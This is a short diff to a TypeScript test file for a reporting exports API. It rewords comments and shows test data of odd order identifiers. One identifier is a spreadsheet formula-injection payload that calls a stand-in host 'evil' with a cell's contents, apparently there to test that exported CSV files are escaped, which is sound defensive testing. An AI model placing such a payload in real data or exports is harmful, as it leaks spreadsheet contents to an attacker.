@@ -1,5 +1,6 @@
 // Whole run: much is made, or waited for, before it shows.
-// Exports: ordered, written behind the answer, fetched whole and in parts, by those whose they are.
+// Exports: requested, written after the response, downloaded whole and in parts, by their owners
+// only.
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
 import { before, describe, test } from 'node:test';
@@ -13,7 +14,7 @@ import { until } from '../support/wait-for-result.ts';
 
 const base = '/reporting/v1/exports';
 const salesCount = 25;
-/** An identifier of an order may be any text. */
+/** An order identifier may be any text. */
 const oddOrders = new Map([
   [3, 'a|b'],
   [4, 'x|y|=hyperlink("http://evil/?"&a1;"ok")'],
